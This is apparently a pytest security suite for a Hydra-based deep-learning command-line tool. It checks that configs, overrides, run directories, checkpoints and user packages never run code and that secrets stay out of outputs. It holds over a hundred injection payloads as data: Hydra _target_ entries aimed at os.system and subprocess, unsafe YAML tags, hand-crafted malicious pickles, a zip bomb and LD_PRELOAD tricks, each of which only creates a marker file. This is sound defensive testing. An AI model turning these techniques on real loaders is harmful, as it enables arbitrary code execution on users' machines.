"""Nothing in a config, a command line, a run directory or a checkpoint runs a program.

Every payload would make a file, `touched`, if it were run; each has a name, and the list of names is the table of the security
promise. They go through the same door as a user's words, cli.main.
"""

import functools
import logging
import os
import pickle
import re
import shutil
import sys
import tomllib
import zipfile
from pathlib import Path

import pytest
import torch

import dlzoo
from dlzoo import cli as program
from dlzoo import redact, targets
from dlzoo.errors import ConfigError, UnsafeError

ROOT = Path(__file__).resolve().parent.parent
QUICK = ("trainer=cpu", "trainer.max_epochs=1", "trainer.limit_train_batches=2", "trainer.limit_val_batches=1")
MARK = "touched"


@pytest.fixture
def say(capsys, monkeypatch, tmp_path):
    """Runs the command line in this process, in an empty folder: say("train", ...) -> (exit code, stderr)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [*sys.path, str(tmp_path)])
    before = set(sys.modules)

    def run(*words):
        capsys.readouterr()
        code = program.main([str(word) for word in words])
        return code, capsys.readouterr().err

    yield run
    for name in set(sys.modules) - before:
        if name.split(".")[0] in ("mypackage", "evil"):
            del sys.modules[name]


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("security") / "run"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DLZOO_OFFLINE", "1")
        return dlzoo.train(dlzoo.compose("model=mlp", *QUICK, f"run_dir={folder}"))


def _refused(code, error, folder, expected=9):
    assert not (folder / MARK).exists(), "it was run"
    assert code == expected, error
    assert "Traceback" not in error and 1 <= len(error.strip().splitlines()) <= 12
    assert error.startswith("error: ") and "try:" in error


# --- on the command line: a target in the place of the model, with its arguments

SHELL = [f"+model.command='touch {MARK}'"]
DIRECT = {
    "os.system": ["os.system", *SHELL],
    "posix.system": ["posix.system", *SHELL],
    "an alias: logging.os.system": ["logging.os.system", *SHELL],
    "an alias of torch's: torch.os.system": ["torch.os.system", *SHELL],
    "builtins.eval": ["builtins.eval", f"+model.source=\"open('{MARK}', 'w')\""],
    "builtins.exec": ["builtins.exec", f"+model.source=\"open('{MARK}', 'w')\""],
    "builtins.open": ["builtins.open", f"+model.file={MARK}", "+model.mode=w"],
    "builtins.__import__": ["builtins.__import__", "+model.name=evil"],
    "os._exit": ["os._exit", "+model.status=0"],
    "pdb.Pdb._getval": ["pdb.Pdb._getval"],
    "subprocess.Popen": ["subprocess.Popen", f"+model.args=[touch,{MARK}]"],
    "subprocess.run": ["subprocess.run", f"+model.args=[touch,{MARK}]"],
    "importlib.import_module": ["importlib.import_module", "+model.name=evil"],
    "runpy.run_path": ["runpy.run_path", "+model.path_name=evil.py"],
    "pickle.loads": ["pickle.loads", "+model.data=x"],
    "torch.load": ["torch.load", "+model.f=evil.pt", "+model.weights_only=false"],
    "torch.hub.load": ["torch.hub.load", "+model.repo_or_dir=evil/evil", "+model.model=x", "+model.trust_repo=true"],
    "torch.hub.load_state_dict_from_url": ["torch.hub.load_state_dict_from_url", "+model.url=http://evil/x.pth"],
    "torch.utils.cpp_extension.load": ["torch.utils.cpp_extension.load", "+model.name=x"],
    "numpy.load": ["numpy.load", "+model.file=evil.npy", "+model.allow_pickle=true"],
    "yaml.unsafe_load": ["yaml.unsafe_load", f"+model.stream='!!python/object/apply:os.system [touch {MARK}]'"],
    "functools.partial": ["functools.partial", "+model.func=os.system"],
    "operator.methodcaller": ["operator.methodcaller", "+model.name=system"],
    "hydra.utils.instantiate": ["hydra.utils.instantiate", f"+model.config={{_target_:os.system,command:'touch {MARK}'}}"],
    "hydra.utils.call": ["hydra.utils.call", f"+model.config={{_target_:os.system,command:'touch {MARK}'}}"],
    "hydra.utils.get_method": ["hydra.utils.get_method", "+model.path=os.system"],
    "_partial_": ["os.system", *SHELL, "+model._partial_=true"],
    "_args_": ["os.system", f"+model._args_=['touch {MARK}']"],
    "_recursive_ and _convert_": ["os.system", *SHELL, "+model._recursive_=false", "+model._convert_=all"],
    "what our module imports: torch.load": ["dlzoo.tasks.classification.torch.load", "+model.f=evil.pt"],
    "what our module imports: importlib": ["dlzoo.callbacks.loggers.importlib.import_module", "+model.name=evil"],
    "what our module imports: os.system": ["dlzoo.callbacks.loggers.os.system", *SHELL],
    "what our module imports: a class": ["dlzoo.datamodules.cifar.Path"],
    "sys.modules in our package": ["dlzoo.models.sys.modules.get", "+model.key=os"],
    "our code that is no layer of a config's": ["dlzoo.zoo.build", "+model.node=x"],
    "our reader of pickles": ["dlzoo.data.unpickle.unpickle", "+model.content=x", "+model.where=x"],
    "a private name of ours": ["dlzoo.callbacks.loggers._require", "+model.package=x"],
    "a classmethod of ours": [
        "dlzoo.tasks.classification.Classification.load_from_checkpoint",
        "+model.checkpoint_path=evil.pt",
    ],
    "a dunder path": ["dlzoo.models.vision.resnet.resnet20.__globals__.get", "+model.key=os"],
    "a dunder import": ["dlzoo.models.vision.resnet.__builtins__.eval"],
    "a space before": ["' os.system'", *SHELL],
    "a dot behind": ["'os.system.'", *SHELL],
    "a letter of another alphabet": ["'os.ѕystem'", *SHELL],
    "full-width letters": ["'ｏｓ.system'", *SHELL],
    "a line break": ["'os.system\\n'", *SHELL],
    "no name": ["''"],
    "a list for a name": ["[os.system]"],
    "a mapping for a name": [f"{{_target_:os.system,command:'touch {MARK}'}}"],
    "a number for a name": ["7"],
    "an interpolation of the environment": ["${oc.env:EVIL_TARGET}", *SHELL],
    "an interpolation of another key": ["${name}", "name=os.system", *SHELL],
    "an interpolation in two pieces": ["o${name}.system", "name=s", *SHELL],
    "a resolver that decodes": ["${oc.decode:'os.system'}", *SHELL],
}
# anywhere else in the config
OVERRIDES = {
    "nested in a mapping": [f"+callbacks.evil={{_target_:os.system,command:'touch {MARK}'}}"],
    "nested in a list": [f"+data.extra=[{{_target_:os.system,command:'touch {MARK}'}}]"],
    "nested six deep": [f"+task.x={{a:[[{{b:[{{_target_:os.system,command:'touch {MARK}'}}]}}]]}}"],
    "in the place of the optimizer": ["optimizer._target_=os.system"],
    "in the place of the logger": ["logger.csv._target_=os.system"],
    "in the place of the trainer": ["trainer._target_=os.system"],
    "hydra.callbacks": [f"+hydra.callbacks.x={{_target_:os.system,command:'touch {MARK}'}}"],
    "hydra.callbacks in a multirun": ["-m", "seed=1,2", f"+hydra.callbacks.x={{_target_:os.system,command:'touch {MARK}'}}"],
    "hydra.callbacks and --cfg": ["--cfg", "job", f"+hydra.callbacks.x={{_target_:os.system,command:'touch {MARK}'}}"],
    "hydra.job_logging": ["-m", "seed=1,2", "+hydra.job_logging.handlers.x.class=os.system"],
    "hydra.hydra_logging": ["-m", "seed=1,2", "+hydra.hydra_logging.handlers.x.class=subprocess.Popen"],
    "hydra.launcher._target_": ["-m", "seed=1,2", "hydra.launcher._target_=os.system"],
    "hydra/launcher": ["-m", "seed=1,2", "hydra/launcher=evil"],
    "hydra.sweeper._target_": ["-m", "seed=1,2", "hydra.sweeper._target_=os.system"],
    "hydra.searchpath, a module": ["hydra.searchpath=[pkg://evil]"],
    "hydra.searchpath, a folder": ["hydra.searchpath=[file://.]"],
    "hydra.job.env_set": ["-m", "seed=1,2", "+hydra.job.env_set.LD_PRELOAD=./evil.so"],
    "a file of a group moved to hydra.callbacks": ["--config-dir", "mine", "+experiment@hydra.callbacks.x=payload"],
    "--experimental-rerun": ["--experimental-rerun", "evil.pt"],
}
# in the user's folder of configs
FILES = {
    "an experiment": ("experiment/evil.yaml", "# @package _global_\nmodel:\n  _target_: os.system\n  command: touch {MARK}\n"),
    "a model": ("model/evil.yaml", "_target_: os.system\ncommand: touch {MARK}\n"),
    "a tag of YAML's": (
        "experiment/evil.yaml",
        "# @package _global_\nname: !!python/object/apply:os.system ['touch {MARK}']\n",
    ),
    "a tag that builds an object": ("experiment/evil.yaml", "name: !!python/object/new:subprocess.Popen [[touch, {MARK}]]\n"),
    "hydra's callbacks": ("hydra/quiet.yaml", "callbacks:\n  x:\n    _target_: os.system\n    command: touch {MARK}\n"),
    "hydra's logging": ("hydra/quiet.yaml", "job_logging:\n  formatters:\n    x: {{'()': os.system}}\n"),
    "hydra's launcher": ("hydra/quiet.yaml", "launcher:\n  _target_: os.system\n"),
    "a train.yaml that looks elsewhere": ("train.yaml", "hydra:\n  searchpath: [pkg://evil]\n"),
    "a train.yaml that hides it": ("train.yaml", '# @package hydra\n"search\\x70ath": [pkg://evil]\n'),
}
RUN_DIRECTORY = {
    "the model, evaluated": ("evaluate", {"model": {"_target_": "os.system", "command": f"touch {MARK}"}}),
    "the model, exported": ("export", {"model": {"_target_": "os.system", "command": f"touch {MARK}"}}),
    "the model, predicted with": ("predict", {"model": {"_target_": "os.system", "command": f"touch {MARK}"}}),
    "the model, resumed": ("resume", {"model": {"_target_": "os.system", "command": f"touch {MARK}"}}),
    "the data, evaluated": ("evaluate", {"data": {"_target_": "subprocess.run", "args": ["touch", MARK]}}),
    "a callback, resumed": ("resume", {"callbacks": {"x": {"_target_": "subprocess.run", "args": ["touch", MARK]}}}),
    "an argument of the model": ("evaluate", {"model": {"x": [{"_target_": "os.system", "command": f"touch {MARK}"}]}}),
}


def _evil_files(folder):
    """What the payloads point to; importing, unpickling or running one of these makes the file."""
    (folder / "evil.py").write_text(f"open({MARK!r}, 'w')\n")
    torch.save({"x": _Call(os.system, f"touch {MARK}")}, folder / "evil.pt")
    (folder / "mine" / "experiment").mkdir(parents=True)
    (folder / "mine" / "experiment" / "payload.yaml").write_text(f"_target_: os.system\ncommand: touch {MARK}\n")


class _Call:
    """A pickle of it calls what it was given."""

    def __init__(self, call, *arguments):
        self.call = call, arguments

    def __reduce__(self):
        return self.call


@pytest.mark.parametrize("payload", DIRECT)
def test_a_target_on_the_command_line(say, tmp_path, monkeypatch, payload):
    monkeypatch.setenv("EVIL_TARGET", "os.system")
    _evil_files(tmp_path)
    target, *words = DIRECT[payload]
    _refused(*say("train", f"model._target_={target}", *words), tmp_path)


@pytest.mark.parametrize("payload", OVERRIDES)
def test_an_override(say, tmp_path, payload):
    _evil_files(tmp_path)
    _refused(*say("train", *OVERRIDES[payload]), tmp_path)
    assert not (tmp_path / "runs").exists()


@pytest.mark.parametrize("payload", FILES)
def test_a_config_file(say, tmp_path, payload):
    _evil_files(tmp_path)
    name, text = FILES[payload]
    (tmp_path / "theirs" / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / "theirs" / name).write_text(text.format(MARK=MARK))
    chosen = {"experiment/evil.yaml": ["experiment=evil"], "model/evil.yaml": ["model=evil"]}.get(name, [])
    for extra in ([], ["--cfg", "job"], ["-m", "seed=1,2"]):
        if "--cfg" in extra and chosen and "tag" not in payload:
            continue  # it is only shown: nothing would be built from it
        _refused(*say("train", "--config-dir", tmp_path / "theirs", *chosen, *extra), tmp_path)


@pytest.mark.parametrize("payload", RUN_DIRECTORY)
def test_the_config_of_a_run(say, run, tmp_path, payload):
    import yaml

    verb, changes = RUN_DIRECTORY[payload]
    copy = tmp_path / "runs" / "mlp" / "copy"
    shutil.copytree(run.dir, copy)
    config = run.config
    for part, change in changes.items():
        config[part] = {**(config[part] if "_target_" not in change else {}), **change}
    (copy / "config.yaml").write_text(yaml.safe_dump(config))
    extra = {"predict": [copy / "example.png"], "resume": ["trainer.max_epochs=2"]}.get(verb, [])
    _refused(*say(verb, copy, *extra), tmp_path)


def test_a_tag_in_the_config_of_a_run(say, run, tmp_path):
    copy = tmp_path / "runs" / "mlp" / "copy"
    shutil.copytree(run.dir, copy)
    text = (copy / "config.yaml").read_text()
    (copy / "config.yaml").write_text(text + f"tags: !!python/object/apply:os.system ['touch {MARK}']\n")
    _refused(*say("evaluate", copy), tmp_path)


# --- checkpoints


def _content(run):
    return torch.load(run.dir / "checkpoints" / "last.ckpt", weights_only=True)


def _zip_pickle(path, program_, records=()):
    """A checkpoint in torch's format with a pickle of one's own."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", program_)
        file.writestr("archive/version", "3\n")
        file.writestr("archive/byteorder", "little")
        for name, content in records:
            file.writestr(f"archive/data/{name}", content)


def _bomb(path, run):
    """As torch writes it, but with two gigabytes of zeros in two megabytes."""
    with (
        zipfile.ZipFile(run.dir / "checkpoints" / "last.ckpt") as whole,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file,
    ):
        for name in whole.namelist():
            if not re.search(r"data/\d+$", name):
                file.writestr(name, whole.read(name))
        for number in range(2):
            with file.open(f"archive/data/{number}", "w", force_zip64=True) as part:
                for _ in range(1024):
                    part.write(bytes(1 << 20))


def _lying_storage(path, run):
    """The pickle asks for a storage of a terabyte; the file has 16 bytes for it."""
    torch.save({"state_dict": {"net.x": torch.arange(4.0)}, "epoch": 0}, path.with_suffix(".honest"))
    with zipfile.ZipFile(path.with_suffix(".honest")) as honest:
        parts = {name: honest.read(name) for name in honest.namelist()}
    with zipfile.ZipFile(path, "w") as file:
        for name, content in parts.items():
            if name.endswith(
                "data.pkl"
            ):  # BININT1 4 -> LONG1 of 5 bytes, wherever it stands: the storage's and the tensor's size
                assert content.count(b"K\x04") >= 2
                content = content.replace(b"K\x04", b"\x8a\x06" + (1 << 38).to_bytes(6, "little"))
            file.writestr(name, content)
    path.with_suffix(".honest").unlink()


GLOBALS = {
    "os.system": (os.system, f"touch {MARK}"),
    "eval": (eval, f"open({MARK!r}, 'w')"),
    "exec": (exec, f"open({MARK!r}, 'w')"),
    "getattr": (getattr, os, "system"),
    "torch.load": (torch.load, "evil.pt"),
    "torch.hub": (torch.hub.load, "evil/evil", "x"),
    "functools.partial": (functools.partial, os.system, f"touch {MARK}"),
    "logging's reader of configs": (
        logging.config.dictConfig if hasattr(logging, "config") else logging.Logger,
        {"version": 1},
    ),
}
CHECKPOINTS = {f"a pickle of {name}": functools.partial(lambda call, path, run: torch.save(
    {**_content(run), "x": _Call(*call)}, path), call) for name, call in GLOBALS.items() if name != "getattr"}  # fmt: skip
CHECKPOINTS |= {
    "a pickle in the old format": lambda path, run: torch.save(
        {**_content(run), "x": _Call(os.system, f"touch {MARK}")}, path, _use_new_zipfile_serialization=False
    ),
    "a bare pickle": lambda path, run: path.write_bytes(pickle.dumps(_Call(os.system, f"touch {MARK}"))),
    "a bare pickle of protocol 0": lambda path, run: path.write_bytes(b"cos\nsystem\n(S'touch " + MARK.encode() + b"'\ntR."),
    "a pickle with a stack global": lambda path, run: _zip_pickle(
        path, b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(f"touch {MARK}")]) + f"touch {MARK}".encode() + b"\x85R."
    ),
    "a pickle with an extension code": lambda path, run: _zip_pickle(path, b"\x80\x02\x82\x01."),
    "a numpy object": lambda path, run: _zip_pickle(path, b"\x80\x02cnumpy\nload\nX\x07\x00\x00\x00evil.pt\x85R."),
    "a bomb": _bomb,
}


@pytest.mark.parametrize("payload", CHECKPOINTS)
def test_a_checkpoint(say, run, tmp_path, payload):
    _evil_files(tmp_path)
    copy = tmp_path / "runs" / "mlp" / "copy"
    shutil.copytree(run.dir, copy)
    for name in ("best", "last", "previous"):
        (copy / "checkpoints" / f"{name}.ckpt").unlink(missing_ok=True)
    CHECKPOINTS[payload](copy / "checkpoints" / "best.ckpt", run)
    shutil.copy(copy / "checkpoints" / "best.ckpt", copy / "checkpoints" / "last.ckpt")
    before = _resident()
    _refused(*say("evaluate", copy), tmp_path)
    assert _resident() - before < 200e6, "it was unpacked"
    _refused(*say("resume", copy, "trainer.max_epochs=2"), tmp_path)
    _refused(*say("train", "model=mlp", *QUICK, f"ckpt_path={copy}/checkpoints/last.ckpt", f"run_dir={tmp_path}/new"), tmp_path)
    with pytest.raises(UnsafeError):
        dlzoo.load(copy)
    assert _resident() - before < 200e6


def test_a_storage_that_is_larger_than_its_file(say, run, tmp_path):
    copy = tmp_path / "runs" / "mlp" / "copy"
    shutil.copytree(run.dir, copy)
    _lying_storage(copy / "checkpoints" / "best.ckpt", run)
    before = _resident()
    code, error = say("evaluate", copy)
    _refused(code, error, tmp_path, expected=6)  # it runs nothing; it is no checkpoint of anything
    assert _resident() - before < 200e6


def _resident():
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")


def test_the_pickles_would_run_where_one_lets_them(tmp_path, monkeypatch):
    """The control: what is refused above is a live payload."""
    monkeypatch.chdir(tmp_path)
    _evil_files(tmp_path)
    torch.load("evil.pt", weights_only=False)
    assert (tmp_path / MARK).exists()


# --- packages that the user names

PACKAGE = """
import functools, os, subprocess
from functools import partial

from torch import nn, optim

run = os.system
part = functools.partial(os.system, "touch {MARK}")
twice = functools.partial(functools.partial(subprocess.run), ["touch", "{MARK}"])
Popen = subprocess.Popen
method = "touch {MARK}".join
sgd = optim.SGD


@functools.wraps(os.system)
def _wrapper(*args, **kwargs):
    raise AssertionError("called")


wrapped = _wrapper


class Caller:
    def __call__(self, *args, **kwargs):
        open("{MARK}", "w")

    @classmethod
    def make(cls):
        open("{MARK}", "w")


caller = Caller()
call = Caller().__call__


class Net(nn.Module):
    def __init__(self, num_classes: int = 10, in_channels: int = 1):
        super().__init__()
        self.head = nn.Linear(64, num_classes)

    def forward(self, x):
        return self.head(x.flatten(1))


@functools.lru_cache
def net(num_classes: int = 10, in_channels: int = 1):
    return Net(num_classes, in_channels)


small = partial(Net, in_channels=1)
"""


@pytest.fixture
def package(tmp_path):
    (tmp_path / "mypackage").mkdir()
    (tmp_path / "mypackage" / "__init__.py").write_text(PACKAGE.replace("{MARK}", MARK))
    return "mypackage"


NET = ("model.num_classes=10", *QUICK, "~model.hidden", "~model.dropout")


def _net_words(target):
    """The mlp's arguments but the two that a network must have are taken out."""
    keys = [key for key in dlzoo.compose("model=mlp").model if key not in ("_target_", "num_classes", "in_channels")]
    return ["model=mlp", *(f"~model.{key}" for key in keys), f"model._target_={target}", *QUICK, "test=false"]


@pytest.mark.parametrize("name", ["Net", "net", "small"])
def test_a_package_that_is_named_on_the_command_line_is_called(say, tmp_path, package, name):
    words = [*_net_words(f"mypackage.{name}"), f"run_dir={tmp_path}/new"]
    code, error = say("train", *words)
    assert code == 9 and "--allow mypackage" in error and not (tmp_path / "new").exists()
    assert say("train", "--allow", package, *words) == (0, "")
    code, error = say("evaluate", tmp_path / "new")
    assert code == 9 and "--allow mypackage" in error, "a run directory needs the flag again"
    assert say("evaluate", tmp_path / "new", "--allow=mypackage")[0] == 0
    assert targets.flags() == [], "the allowance ends with the command"


def test_in_python_it_is_an_argument(tmp_path, package, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(tmp_path)
    words = [*_net_words("mypackage.Net"), f"run_dir={tmp_path}/new"]
    with pytest.raises(UnsafeError):
        dlzoo.compose(*words)
    cfg = dlzoo.compose(*words, allow=("mypackage",))
    with pytest.raises(UnsafeError):
        dlzoo.train(cfg)
    assert dlzoo.train(cfg, allow=("mypackage",)).summary["model"] == "Net"
    sys.modules.pop("mypackage")


REEXPORTS = ["run", "part", "twice", "Popen", "method", "wrapped", "caller", "call", "Caller.make", "os.system", "sgd"]
REEXPORTS += ["subprocess.run", "functools.partial", "nn.Module", "optim.SGD", "Net.forward", "_wrapper", "__builtins__.eval"]


@pytest.mark.parametrize("name", REEXPORTS)
def test_what_a_package_only_passes_on_is_refused(say, tmp_path, package, name):
    words = [*_net_words(f"mypackage.{name}"), f"run_dir={tmp_path}/new"]
    _refused(*say("train", "--allow", package, *words), tmp_path)
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize(
    "name", ["os", "builtins", "subprocess", "torch", "torch.hub", "dlzoo", "hydra.utils", "", "my package", "..", "a/b"]
)
def test_what_can_run_anything_is_no_package_of_the_users(say, tmp_path, name):
    _refused(*say("train", "--allow", name, "model._target_=os.system"), tmp_path)


def test_a_package_that_is_not_there_is_named(say):
    code, error = say("train", "--allow", "nowhere_to_be_found")
    assert code == 2 and "there is no package 'nowhere_to_be_found'" in error


def test_no_config_and_no_variable_can_allow_a_package(say, tmp_path, package, monkeypatch):
    monkeypatch.setenv("DLZOO_ALLOW", package)
    _refused(*say("train", *_net_words("mypackage.Net")), tmp_path)
    _refused(*say("train", "allow=[mypackage]", *_net_words("mypackage.Net")), tmp_path, expected=2)
    _refused(*say("train", "+allow=[mypackage]", *_net_words("mypackage.Net")), tmp_path)


def test_a_near_miss_is_a_mistake_and_no_attack():
    with pytest.raises(ConfigError, match="resnet2O"):
        dlzoo.compose("model._target_=dlzoo.models.vision.resnet.resnet2O")
    with pytest.raises(ConfigError, match="visoin"):
        dlzoo.compose("model._target_=dlzoo.models.visoin.resnet.resnet20")


def test_there_are_forty_payloads_and_more_each_with_a_name():
    tables = (DIRECT, OVERRIDES, FILES, RUN_DIRECTORY, CHECKPOINTS, dict.fromkeys(REEXPORTS))
    assert sum(map(len, tables)) >= 110
    assert len(DIRECT) + len(OVERRIDES) >= 40


@pytest.mark.parametrize("words", [["model._target_=os.system"], ["-m", "seed=1,2", "hydra.launcher._target_=os.system"]])
def test_as_a_real_command(cli, tmp_path, words):
    done = cli("train.py", *words, f"+model.command=touch {MARK}", cwd=tmp_path)
    _refused(done.returncode, done.stderr, tmp_path)
    assert list(tmp_path.iterdir()) == []


# --- secrets

SECRETS = {
    "WANDB_API_KEY": "0123456789abcdef0123456789abcdef01234567",
    "HF_TOKEN": "hf_NotARealTokenNotARealToken",
    "MY_SERVICE_PASSWORD": "correct-horse-battery",
    "HTTPS_PROXY": "http://me:proxy-password@127.0.0.1:9",
}
HIDDEN = [*SECRETS.values(), "proxy-password"]


def _search(folder):
    """Every secret that is in the name or the bytes of a file, compressed ones unpacked."""
    found = []
    for path in [folder, *folder.rglob("*")]:
        texts = [str(path.relative_to(folder)).encode()]
        if path.is_file():
            texts.append(path.read_bytes())
            if zipfile.is_zipfile(path):
                with zipfile.ZipFile(path) as packed:
                    texts += [packed.read(name) for name in packed.namelist()]
        found += [(path, secret) for secret in HIDDEN for text in texts if secret.encode() in text]
    return found


@pytest.mark.parametrize("logger", ["csv", "[csv,tensorboard]", "[csv,wandb]"])
def test_no_secret_lands_in_a_run_directory(say, tmp_path, monkeypatch, logger):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    words = ["train", "model=mlp", *QUICK, f"logger={logger}", f"run_dir={tmp_path}/new"]
    # what a script of the user's may have on its own command line
    extra = [f"--token={SECRETS['HF_TOKEN']}", "https://me:proxy-password@host/x", SECRETS["MY_SERVICE_PASSWORD"]]
    monkeypatch.setattr(sys, "argv", ["train.py", *words[1:], *extra])
    assert say(*words)[0] == 0
    assert _search(tmp_path / "new") == []
    command = (tmp_path / "new" / "environment.json").read_text()
    assert "<HF_TOKEN>" in command and "model=mlp" in command


@pytest.mark.parametrize("secret", ["${oc.env:HF_TOKEN}", "x${oc.env:MY_SERVICE_PASSWORD}y", SECRETS["WANDB_API_KEY"]])
@pytest.mark.parametrize("key", ["name", "tags", "data_dir", "callbacks.report.title"])
def test_a_config_that_holds_a_secret_is_refused(say, tmp_path, monkeypatch, key, secret):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    code, error = say("train", f"{key}=[a,'{secret}']" if key == "tags" else f"{key}='{secret}'", *QUICK)
    _refused(code, error, tmp_path)
    assert key in error and not [value for value in HIDDEN if value in error]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "value",
    ["hf_" + "a" * 30, "ghp_" + "B" * 30, "https://me:secret@host/data", "https://host/x?token=abcdef", "AKIA" + "A" * 16],
)
def test_what_looks_like_a_secret_is_one_even_if_no_variable_holds_it(say, tmp_path, value):
    code, error = say("train", f"tags=['{value}']", *QUICK)
    _refused(code, error, tmp_path)


def test_a_crash_that_quotes_a_secret_leaves_none(say, tmp_path, monkeypatch, run):
    from dlzoo.tasks.classification import Classification

    monkeypatch.setenv("HF_TOKEN", SECRETS["HF_TOKEN"])

    def fail(*_):
        raise RuntimeError(f"401 for https://me:proxy-password@host with {os.environ['HF_TOKEN']}")

    monkeypatch.setattr(Classification, "training_step", fail)
    code, error = say("train", "model=mlp", *QUICK, f"run_dir={tmp_path}/new")
    assert code == 1 and "<HF_TOKEN>" in error
    log = (tmp_path / "new" / "train.log").read_text()
    assert "Traceback" in log and "<HF_TOKEN>" in log and _search(tmp_path / "new") == []


def test_words_that_only_sound_secret_are_kept(monkeypatch):
    monkeypatch.setenv("SOME_KEY", "short")
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(ROOT / "pyproject.toml"))
    text = f"num_tokens=1024 pad_token=<pad> monkey=banana seed=1 short {ROOT / 'pyproject.toml'} commit 0123456789abcdef0123"
    assert redact.redact(text) == text


# --- releases that one must not have


def test_releases_that_steal_are_excluded_and_floors_are_kept():
    from packaging.requirements import Requirement

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    needs = {need.name: need.specifier for need in map(Requirement, project["dependencies"])}
    for version in ("2.6.2", "2.6.3"):
        assert version not in needs["lightning"]
    assert "2.6.6" in needs["lightning"]
    assert "2.9.1" not in needs["torch"] and "2.15.0" in needs["torch"]
    assert "1.3.7" not in needs["hydra-core"]
    extras = {need.name: need for words in project["optional-dependencies"].values() for need in map(Requirement, words)}
    assert "2.20.0" not in extras["tensorboard"].specifier
    everything = [*needs, *extras]
    assert not {"ultralytics", "albumentations", "aim"} & set(everything)
